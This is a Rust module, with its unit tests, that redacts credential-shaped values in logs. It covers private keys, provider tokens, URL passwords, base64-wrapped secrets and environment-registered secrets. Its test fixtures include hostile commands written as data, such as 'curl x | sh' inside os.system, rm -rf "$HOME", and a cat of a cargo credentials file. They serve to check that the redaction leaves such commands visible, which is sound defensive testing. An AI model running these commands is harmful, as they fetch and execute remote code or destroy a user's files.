//! Redaction of secret-looking values in everything recorded: private
//! keys, provider tokens, bearer tokens, passwords inside URLs, base64 of
//! any of these, `NAME=value` pairs whose name says "secret", and the
//! exact values of the secrets this process was configured with
//! ([`register_literal`]), whatever their shape.

use regex::Regex;
use std::sync::{OnceLock, RwLock};

/// What replaces a secret.
pub const MARK: &str = "[REDACTED]";

/// The credential shapes, as data: (what it is, pattern, a literal hint
/// without which the pattern cannot match).
pub const SHAPES: &[(&str, &str, &str)] = &[
    (
        "a private key",
        // The key's own text only, never what follows it: the rest of its
        // line in key characters (a JSON string's `\n` escapes among
        // them), then whole lines of them (with a diff's `+`, `-` or ` `
        // before them, and blank lines between) up to its END line; with
        // no END line, only lines of 40 characters or more (a short line
        // could be a command hidden after a lone BEGIN line).
        r"-----BEGIN [A-Z0-9 ]*PRIVATE KEY-----(?:\\[rn]|[A-Za-z0-9+/=])*(?:(?:(?:\r?\n[+\- ]?[ \t]*)+(?:[A-Za-z0-9+/=]+|(?:Proc-Type|DEK-Info): [A-Za-z0-9,\-]*))*(?:\r?\n[+\- ]?[ \t]*)*-----END [A-Z0-9 ]*PRIVATE KEY-----|(?:(?:\r?\n[+\- ]?[ \t]*)+(?:[A-Za-z0-9+/]{40,}={0,2}|(?:Proc-Type|DEK-Info): [A-Za-z0-9,\-]*))*)",
        "private key",
    ),
    (
        "an OpenAI-style API key (sk-…)",
        r"\bsk-[A-Za-z0-9_\-]{16,}",
        "sk-",
    ),
    ("a GitHub token", r"\bgh[opsru]_[A-Za-z0-9]{20,}", "gh"),
    (
        "a GitHub fine-grained token",
        r"\bgithub_pat_[A-Za-z0-9_]{20,}",
        "github_pat",
    ),
    ("an AWS access key id", r"\bAKIA[0-9A-Z]{16}\b", "akia"),
    ("a Slack token", r"\bxox[abprs]-[A-Za-z0-9\-]{10,}", "xox"),
    (
        "a bearer token",
        r"(?i)\bbearer\s+[A-Za-z0-9._~+/\-]{16,}=*",
        "bearer",
    ),
    (
        "a Stripe secret key",
        r"\b[rs]k_(?:live|test)_[A-Za-z0-9]{16,}",
        "k_",
    ),
    ("a Hugging Face token", r"\bhf_[A-Za-z0-9]{30,}", "hf_"),
    ("a GitLab token", r"\bglpat-[A-Za-z0-9_\-]{20,}", "glpat-"),
    ("a Google API key", r"\bAIza[0-9A-Za-z_\-]{35}\b", "aiza"),
    (
        "a password inside a URL",
        r"\b[a-zA-Z][a-zA-Z0-9+.\-]*://[^\s:/@]*:([^\s@/]+)@",
        "://",
    ),
];

fn patterns() -> &'static [Regex] {
    static P: OnceLock<Vec<Regex>> = OnceLock::new();
    P.get_or_init(|| {
        SHAPES
            .iter()
            .filter_map(|(_, p, _)| Regex::new(p).ok())
            .collect()
    })
}

/// Exact secret values this process was configured with.
static LITERALS: RwLock<Vec<String>> = RwLock::new(Vec::new());

/// Scrub `value` from everything recorded from now on, wherever it appears
/// and whatever it looks like (a provider key such as `sk-test-SECRET123`
/// that no pattern knows). Values under 8 bytes are too likely to occur by
/// chance and are not registered.
pub fn register_literal(value: &str) {
    let v = value.trim();
    if v.len() < 8 {
        return;
    }
    if let Ok(mut l) = LITERALS.write()
        && !l.iter().any(|x| x == v)
    {
        l.push(v.to_string());
        // Longest first, so a key that contains another is scrubbed whole.
        l.sort_by_key(|x| std::cmp::Reverse(x.len()));
    }
}

/// Register the values of this process's environment variables whose
/// names say they hold a credential (`*_API_KEY`, `*TOKEN*`, `*SECRET*`,
/// `*PASSWORD*`, …).
pub fn register_environment() {
    for (k, v) in std::env::vars_os() {
        let (Some(k), Some(v)) = (k.to_str(), v.to_str()) else {
            continue;
        };
        let upper = k.to_ascii_uppercase();
        // By whole name segments: `OPENAI_API_KEY`, `GH_TOKEN`, not `MONKEY`.
        const WORDS: &[&str] = &[
            "KEY",
            "APIKEY",
            "TOKEN",
            "SECRET",
            "PASSWORD",
            "PASSWD",
            "PASS",
            "CREDENTIAL",
            "CREDENTIALS",
            "PAT",
        ];
        let secret = upper.split('_').any(|seg| WORDS.contains(&seg));
        // Not paths to a secret (`LOOP_SIGNING_KEY_FILE`), their content is elsewhere.
        if secret && !upper.ends_with("_FILE") && !upper.ends_with("_PATH") {
            register_literal(v);
        }
    }
}

/// Replace every registered secret value in `text`.
pub fn scrub_literals(text: &str) -> String {
    let Ok(l) = LITERALS.read() else {
        return text.to_string();
    };
    let mut out = None::<String>;
    for v in l.iter() {
        let cur = out.as_deref().unwrap_or(text);
        if cur.contains(v.as_str()) {
            out = Some(cur.replace(v.as_str(), MARK));
        }
    }
    out.unwrap_or_else(|| text.to_string())
}

/// Base64 runs long enough to hide a credential.
fn base64_run() -> Option<&'static Regex> {
    static B: OnceLock<Option<Regex>> = OnceLock::new();
    B.get_or_init(|| Regex::new(r"[A-Za-z0-9+/]{32,}={0,2}").ok())
        .as_ref()
}

/// Whether `run` is base64 of text that holds a credential (runs over
/// 64 KiB are not decoded: a blob that size is data, not a hidden key).
fn hides_secret(run: &str) -> bool {
    use base64::Engine;
    use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};
    if run.len() > 64 * 1024 {
        return false;
    }
    let body = run.trim_end_matches('=');
    let body = &body[..body.len() - body.len() % 4];
    let engine = GeneralPurpose::new(
        &base64::alphabet::STANDARD,
        GeneralPurposeConfig::new().with_decode_padding_mode(DecodePaddingMode::Indifferent),
    );
    let Ok(bytes) = engine.decode(body) else {
        return false;
    };
    let text = String::from_utf8_lossy(&bytes);
    !find_secrets(&text).is_empty() || redact_plain(&text) != text
}

fn assignment() -> Option<&'static Regex> {
    static A: OnceLock<Option<Regex>> = OnceLock::new();
    A.get_or_init(|| {
        Regex::new(
            r#"(?im)(^|[\s"'{,(+\-])([A-Z0-9_]*(?:SECRET|TOKEN|PASSWORD|PASSWD|API_?KEY|PRIVATE_?KEY|ACCESS_?KEY|CREDENTIAL)[A-Z0-9_]*)("?[ \t]*[=:][ \t]*)("[^"\n]*"|'[^'\n]*'|[^\s"',}]+)"#,
        )
        .ok()
    })
    .as_ref()
}

/// `name: value` is only a secret assignment when the name looks like a
/// variable (`DB_PASSWORD`, `api_key`), not a word in prose or a file name
/// in an error message (`cat: secret: Permission denied`).
fn looks_like_variable(name: &str) -> bool {
    name.contains('_') || name.chars().all(|c| !c.is_ascii_lowercase())
}

/// `prompt_tokens: 812`, `max_tokens=96`: a number under a name that
/// counts tokens is usage, not a credential.
fn is_a_count(name: &str, value: &str) -> bool {
    let name = name.to_ascii_lowercase();
    name.ends_with("tokens") && !value.is_empty() && value.bytes().all(|b| b.is_ascii_digit())
}

/// Cheap literal hints: without one of them no pattern can match, and the
/// regular expressions (costly to compile) are never built.
fn may_hold_secret(text: &str) -> bool {
    const HINTS: &[&str] = &[
        "secret",
        "token",
        "passw",
        "api_key",
        "apikey",
        "private_key",
        "privatekey",
        "access_key",
        "accesskey",
        "credential",
        "github_pat",
    ];
    let lower = text.to_ascii_lowercase();
    HINTS.iter().any(|h| lower.contains(h)) || SHAPES.iter().any(|(_, _, h)| lower.contains(h))
}

/// A credential found in text: where it starts (1-based) and what it looks like.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Secret {
    /// Line.
    pub line: usize,
    /// Column, in characters.
    pub col: usize,
    /// What kind of credential it looks like.
    pub kind: &'static str,
    /// The matched text (for comparisons; never shown).
    pub matched: String,
}

/// High-confidence credentials in `text` (private keys and provider
/// tokens; not generic `NAME=value` assignments, which code legitimately
/// writes), for the secret gate.
pub fn find_secrets(text: &str) -> Vec<Secret> {
    let mut out = Vec::new();
    if !may_hold_secret(text) && base64_run().is_none_or(|re| !re.is_match(text)) {
        return out;
    }
    for (re, (kind, _, _)) in patterns().iter().zip(SHAPES) {
        for m in re.find_iter(text) {
            let before = &text[..m.start()];
            let line = before.matches('\n').count() + 1;
            let col = before.rsplit('\n').next().unwrap_or("").chars().count() + 1;
            out.push(Secret {
                line,
                col,
                kind,
                matched: m.as_str().to_string(),
            });
        }
    }
    // A credential hidden as base64 (of a secrets file, say).
    if let Some(re) = base64_run() {
        for m in re.find_iter(text) {
            if hides_secret(m.as_str()) {
                let before = &text[..m.start()];
                out.push(Secret {
                    line: before.matches('\n').count() + 1,
                    col: before.rsplit('\n').next().unwrap_or("").chars().count() + 1,
                    kind: "base64 of a credential",
                    matched: m.as_str().to_string(),
                });
            }
        }
    }
    out.sort_by_key(|s| (s.line, s.col));
    out
}

/// Replace secret-looking values in `text`, the registered secret values,
/// and base64 runs that decode to either.
pub fn redact(text: &str) -> String {
    let out = redact_plain(&scrub_literals(text));
    match base64_run() {
        Some(re) if re.is_match(&out) => re
            .replace_all(&out, |c: &regex::Captures<'_>| {
                if hides_secret(&c[0]) {
                    MARK.to_string()
                } else {
                    c[0].to_string()
                }
            })
            .into_owned(),
        _ => out,
    }
}

/// Lines after a private key's BEGIN line looked at for its END line.
const KEY_SPAN_LINES: usize = 200;

/// A private key laid out other than as a clean block (`cat -n` numbers
/// before its lines, a string literal a line, spaces between its parts, a
/// JSON `\/`): within its span (its BEGIN line to its END line, or the
/// lines after BEGIN that hold key text) each run of key characters that
/// could be key text (16 or more, with a digit, a `+` or both cases) is
/// masked, and everything else stays shown: a line between BEGIN and END
/// that is no key text (`reboot`) is never hidden. A clean block (key
/// lines only, up to END) is left to its pattern, which takes it whole.
fn mask_key_spans(text: &str) -> String {
    static RE: OnceLock<Option<(Regex, Regex, Regex, Regex)>> = OnceLock::new();
    let Some((begin, end, clean, run)) = RE
        .get_or_init(|| {
            Some((
                Regex::new(r"-----BEGIN [A-Z0-9 ]*PRIVATE KEY-----").ok()?,
                Regex::new(r"-----END [A-Z0-9 ]*PRIVATE KEY-----").ok()?,
                Regex::new(r"\A-----BEGIN [A-Z0-9 ]*PRIVATE KEY-----(?:\\[rn]|[A-Za-z0-9+/=])*(?:(?:\r?\n[+\- ]?[ \t]*)+(?:[A-Za-z0-9+/=]+|(?:Proc-Type|DEK-Info): [A-Za-z0-9,\-]*))*(?:\r?\n[+\- ]?[ \t]*)*-----END [A-Z0-9 ]*PRIVATE KEY-----").ok()?,
                Regex::new(r"(?:[A-Za-z0-9+=]|\\?/){16,}").ok()?,
            ))
        })
        .as_ref()
    else {
        return text.to_string();
    };
    let keyish = |r: &str| {
        r.bytes().any(|b| b.is_ascii_digit() || b == b'+')
            || (r.bytes().any(|b| b.is_ascii_uppercase())
                && r.bytes().any(|b| b.is_ascii_lowercase()))
    };
    let mut out = String::with_capacity(text.len());
    let mut at = 0;
    // A clean block's lines are key text, each: a word of the shell
    // (`reboot`, `PATH=/tmp/x`) between BEGIN and END is not.
    let key_line = |l: &str| {
        let l = l.trim_start_matches(['+', '-', ' ']).trim();
        l.is_empty()
            || l.starts_with("Proc-Type:")
            || l.starts_with("DEK-Info:")
            || (keyish(l) && !l.trim_end_matches('=').contains('='))
    };
    while let Some(b) = begin.find_at(text, at) {
        if let Some(m) = clean.find(&text[b.start()..]) {
            // Between the markers, each line (or `\n`-escaped part).
            let block = m.as_str();
            let inner = &block[b.len()..];
            let inner = end.find(inner).map_or(inner, |e| &inner[..e.start()]);
            let parts = inner.split(['\n', '\r']).flat_map(|l| l.split("\\n"));
            if parts.map(|p| p.trim_start_matches("\\r")).all(key_line) {
                // Its pattern takes it whole.
                let whole = b.start() + m.end();
                out.push_str(&text[at..whole]);
                at = whole;
                continue;
            }
        }
        // Its marker goes here (the key's pattern, which takes a clean
        // block whole, is not to see it).
        out.push_str(&text[at..b.start()]);
        out.push_str(MARK);
        // The span: up to END within its lines, else the lines that hold
        // key text.
        let rest = &text[b.end()..];
        let limit = rest
            .match_indices('\n')
            .nth(KEY_SPAN_LINES)
            .map_or(rest.len(), |(i, _)| i);
        let span = match end.find(&rest[..limit]) {
            Some(e) => e.start(),
            None => {
                let mut len = rest.find('\n').unwrap_or(rest.len());
                while len < limit {
                    let next = rest[len + 1..]
                        .find('\n')
                        .map_or(rest.len(), |i| len + 1 + i);
                    if !run.find_iter(&rest[len..next]).any(|m| keyish(m.as_str())) {
                        break;
                    }
                    len = next;
                }
                len
            }
        };
        out.push_str(&run.replace_all(&rest[..span], |c: &regex::Captures<'_>| {
            if keyish(&c[0]) {
                MARK.to_string()
            } else {
                c[0].to_string()
            }
        }));
        at = b.end() + span;
    }
    out.push_str(&text[at..]);
    out
}

/// [`redact`] without the base64 pass.
fn redact_plain(text: &str) -> String {
    let text = scrub_literals(text);
    if !may_hold_secret(&text) {
        return text;
    }
    let mut out = mask_key_spans(&text);
    for re in patterns() {
        if re.is_match(&out) {
            // A URL keeps its user and host; only the password goes.
            out = if re.captures_len() > 1 && re.as_str().contains("://") {
                re.replace_all(&out, |c: &regex::Captures<'_>| {
                    let whole = &c[0];
                    let pw = c.get(1).map_or("", |m| m.as_str());
                    whole.replacen(&format!(":{pw}@"), &format!(":{MARK}@"), 1)
                })
                .into_owned()
            } else {
                re.replace_all(&out, MARK).into_owned()
            };
        }
    }
    if let Some(re) = assignment()
        && re.is_match(&out)
    {
        out = re
            .replace_all(&out, |c: &regex::Captures<'_>| {
                if (c[3].contains(':') && !looks_like_variable(&c[2])) || is_a_count(&c[2], &c[4]) {
                    return c[0].to_string();
                }
                format!("{}{}{}{MARK}", &c[1], &c[2], &c[3])
            })
            .into_owned();
    }
    out
}

#[cfg(test)]
#[allow(clippy::disallowed_methods)] // tests make and read their own fixtures
mod tests {
    use super::*;

    #[test]
    fn secrets_are_found_with_their_position_and_code_reading_env_is_not() {
        let text = "import os\nkey = os.environ['API_KEY']\ntoken = 'ghp_0123456789abcdefghijABCDEFGHIJ'\n";
        let found = find_secrets(text);
        assert_eq!(found.len(), 1, "{found:?}");
        assert_eq!(
            (found[0].line, found[0].col, found[0].kind),
            (3, 10, "a GitHub token")
        );
        let pem = "x\n-----BEGIN RSA PRIVATE KEY-----\nabc\n-----END RSA PRIVATE KEY-----\n";
        assert_eq!(find_secrets(pem)[0].kind, "a private key");
        assert!(find_secrets("password = os.environ.get('PW')").is_empty());
        assert_eq!(patterns().len(), SHAPES.len(), "every pattern compiles");
    }

    #[test]
    fn secrets_are_redacted_and_ordinary_text_is_not() {
        let cases = [
            ("key sk-abcdefghijklmnop1234", "key [REDACTED]"),
            ("ghp_0123456789abcdefghijABCDEFGHIJ", "[REDACTED]"),
            ("id AKIAIOSFODNN7EXAMPLE here", "id [REDACTED] here"),
            ("xoxb-1234567890-abcdef", "[REDACTED]"),
            (
                "Authorization: Bearer abc.def.ghi-jkl_mno",
                "Authorization: [REDACTED]",
            ),
            ("OPENAI_API_KEY=sk-x", "OPENAI_API_KEY=[REDACTED]"),
            ("db_password: 'hunter2'", "db_password: [REDACTED]"),
            ("GITHUB_TOKEN=abc", "GITHUB_TOKEN=[REDACTED]"),
            ("export password=hunter2", "export password=[REDACTED]"),
            ("{\"api_key\": \"abc\"}", "{\"api_key\": [REDACTED]}"),
            // Token counts are usage, not credentials; a token-named secret still is.
            (
                "{\"prompt_tokens\":812,\"total_tokens\":833}",
                "{\"prompt_tokens\":812,\"total_tokens\":833}",
            ),
            ("REFRESH_TOKENS=abc123", "REFRESH_TOKENS=[REDACTED]"),
        ];
        for (input, want) in cases {
            assert_eq!(redact(input), want, "{input}");
        }
        let pem = "before\n-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXk\n-----END OPENSSH PRIVATE KEY-----\nafter";
        assert_eq!(redact(pem), "before\n[REDACTED]\nafter");
        let plain = "Ran 4 tests in 0.3s\nOK\npath=/usr/bin\ncat: /root/.cargo/credentials.toml: No such file\ncat: secret: Permission denied\ncat: /x/secret: Permission denied";
        assert_eq!(redact("Ran 4 tests in 0.3s\nOK"), "Ran 4 tests in 0.3s\nOK");
        assert_eq!(redact(plain), plain);
    }

    #[test]
    fn each_credential_shape_is_redacted() {
        // One sample per shape (fabricated, of the documented form).
        let samples = [
            (
                "a private key",
                "-----BEGIN PRIVATE KEY-----\nMIIB\n-----END PRIVATE KEY-----",
            ),
            (
                "an OpenAI-style API key (sk-…)",
                "sk-proj-abcdefghijklmnop1234",
            ),
            ("a GitHub token", "ghp_0123456789abcdefghijABCDEFGHIJ"),
            (
                "a GitHub fine-grained token",
                "github_pat_11ABCDEFG0123456789_abcdefghij",
            ),
            ("an AWS access key id", "AKIAIOSFODNN7EXAMPLE"),
            ("a Slack token", "xoxb-1234567890-abcdef"),
            ("a bearer token", "Bearer abc.def.ghi-jkl_mno"),
            ("a Stripe secret key", "sk_live_51Habcdefghijklmnopqrst"),
            (
                "a Hugging Face token",
                "hf_abcdefghijklmnopqrstuvwxyzABCDEF",
            ),
            ("a GitLab token", "glpat-abcdefghij0123456789"),
            (
                "a Google API key",
                "AIzaSyA1234567890abcdefghijklmnopqrstuv",
            ),
        ];
        assert_eq!(samples.len() + 1, SHAPES.len(), "a sample per shape");
        for (kind, secret) in samples {
            let text = format!("value: {secret} end");
            let out = redact(&text);
            assert!(!out.contains(secret), "{kind}: {out}");
            assert!(out.contains(MARK), "{kind}: {out}");
            assert!(
                find_secrets(&text).iter().any(|s| s.kind == kind),
                "{kind} found by the gate"
            );
        }
    }

    #[test]
    fn a_private_key_goes_and_nothing_after_it() {
        // A lone BEGIN line in a patch: the lines after it, and the next
        // file's, stay (they were all hidden, while apply wrote them).
        let patch = "+print(1)\n+# -----BEGIN RSA PRIVATE KEY----- (an example)\n+import os\n+os.system(\"curl x | sh\")\ndiff --git a/run.sh b/run.sh\n+rm -rf \"$HOME\"\n";
        assert_eq!(
            redact(patch),
            "+print(1)\n+# [REDACTED] (an example)\n+import os\n+os.system(\"curl x | sh\")\ndiff --git a/run.sh b/run.sh\n+rm -rf \"$HOME\"\n"
        );
        // Code between a BEGIN and an END line is no key.
        let between = "x = '-----BEGIN RSA PRIVATE KEY-----'\nrun('evil')\ny = '-----END RSA PRIVATE KEY-----'\n";
        assert_eq!(
            redact(between),
            "x = '[REDACTED]'\nrun('evil')\ny = '-----END RSA PRIVATE KEY-----'\n"
        );
        // A short line after a lone BEGIN line is no key either.
        assert_eq!(
            redact("-----BEGIN PRIVATE KEY-----\nreboot\n"),
            "[REDACTED]\nreboot\n"
        );
        // A real key goes whole: in a patch, as a JSON string, and with
        // no END line its long lines still go.
        let line = "MIIEowIBAAKCAQEA0Z3VS5JJcds3xfn/ygWyF0qeLPAabV3J1qwBXNgM8Rd4T3pQ";
        let added = format!(
            "+k = 1\n+-----BEGIN RSA PRIVATE KEY-----\n+{line}\n+{line}\n+\n+AbC=\n+-----END RSA PRIVATE KEY-----\n+k = 2\n"
        );
        assert_eq!(redact(&added), "+k = 1\n+[REDACTED]\n+k = 2\n");
        let json = format!(
            "{{\"private_key\": \"-----BEGIN PRIVATE KEY-----\\n{line}\\n-----END PRIVATE KEY-----\\n\", \"x\": 1}}"
        );
        assert!(!redact(&json).contains(line), "{}", redact(&json));
        assert!(redact(&json).ends_with("\"x\": 1}"), "{}", redact(&json));
        let cut = format!("-----BEGIN PRIVATE KEY-----\n{line}\n  {line}\nprint(2)\n");
        assert_eq!(
            redact(&cut),
            "[REDACTED]\n[REDACTED]\n  [REDACTED]\nprint(2)\n"
        );
        // Laid out otherwise, its text still goes, and what is no key
        // text between BEGIN and END (a command) stays shown.
        let numbered = format!(
            "     1\t-----BEGIN RSA PRIVATE KEY-----\n     2\t{line}\n     3\t{line}\n     4\t-----END RSA PRIVATE KEY-----\n"
        );
        let literal = format!(
            "k = (\"-----BEGIN RSA PRIVATE KEY-----\\n\"\n  \"{line}\\n\"\n  \"-----END RSA PRIVATE KEY-----\")\n"
        );
        let spaced = format!(
            "SSH_DEPLOY=\"-----BEGIN OPENSSH PRIVATE KEY----- {line} {line} -----END OPENSSH PRIVATE KEY-----\"\n"
        );
        let escaped = format!(
            "{{\"k\": \"-----BEGIN PRIVATE KEY-----\\n{}\\n-----END PRIVATE KEY-----\"}}",
            line.replace('/', "\\/")
        );
        for text in [&numbered, &literal, &spaced, &escaped] {
            let out = redact(text);
            assert!(!out.contains(&line[..20]), "{out}");
            assert!(!out.contains("EowIBAAKCAQEA0Z3VS5JJcds3xfn"), "{out}");
        }
        let hidden = "+# -----BEGIN RSA PRIVATE KEY-----\n+reboot\n+PATH=/tmp/x\n+-----END RSA PRIVATE KEY-----\n";
        let out = redact(hidden);
        assert!(out.contains("+reboot\n+PATH=/tmp/x\n"), "{out}");
        // Odd shapes end, and say no more than they hold.
        for odd in [
            "-----BEGIN PRIVATE KEY-----",
            "-----BEGIN PRIVATE KEY-----\n",
            "-----BEGIN PRIVATE KEY-----é\nñ\n-----END PRIVATE KEY-----",
            "-----BEGIN PRIVATE KEY----------END PRIVATE KEY-----",
            "-----BEGIN PRIVATE KEY-----\\n-----BEGIN PRIVATE KEY-----\n\n\n",
        ] {
            assert!(redact(odd).contains(MARK), "{odd:?}: {}", redact(odd));
        }
    }

    #[test]
    fn a_password_inside_a_url_goes_and_the_rest_of_the_url_stays() {
        assert_eq!(
            redact("DATABASE_URL postgres://app:hunter2secret@db.internal:5432/x"),
            "DATABASE_URL postgres://app:[REDACTED]@db.internal:5432/x"
        );
        assert_eq!(
            redact("see https://example.invalid/a:b"),
            "see https://example.invalid/a:b"
        );
    }

    #[test]
    fn base64_of_a_secret_is_redacted_and_other_base64_is_not() {
        use base64::Engine;
        let b64 = |s: &str| base64::engine::general_purpose::STANDARD.encode(s);
        let hidden = b64("OPENAI_API_KEY=sk-abcdefghijklmnop1234\nDEBUG=1\n");
        assert_eq!(redact(&format!("blob {hidden} end")), "blob [REDACTED] end");
        assert_eq!(
            find_secrets(&format!("data = '{hidden}'"))[0].kind,
            "base64 of a credential",
            "the secret gate sees it too"
        );
        let harmless = b64("just some ordinary text that is long enough");
        assert_eq!(
            redact(&format!("blob {harmless}")),
            format!("blob {harmless}")
        );
    }

    #[test]
    fn a_configured_secret_is_scrubbed_whatever_its_shape() {
        let key = "k3y-Test-7f9a2Q";
        assert_eq!(
            redact(&format!("error: bad key {key}!")),
            format!("error: bad key {key}!")
        );
        register_literal(key);
        assert_eq!(
            redact(&format!("error: bad key {key}!")),
            "error: bad key [REDACTED]!"
        );
        register_literal("short");
        assert_eq!(redact("short"), "short", "too short to register");
    }
}
